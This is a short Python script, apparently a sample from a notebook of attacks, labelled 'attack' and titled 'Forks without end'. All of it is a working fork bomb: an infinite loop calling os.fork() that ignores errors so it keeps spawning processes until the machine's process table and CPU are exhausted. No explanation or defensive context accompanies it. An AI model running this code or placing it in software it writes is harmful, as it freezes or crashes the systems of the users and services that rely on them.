# Forks without end.
# %% attack
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
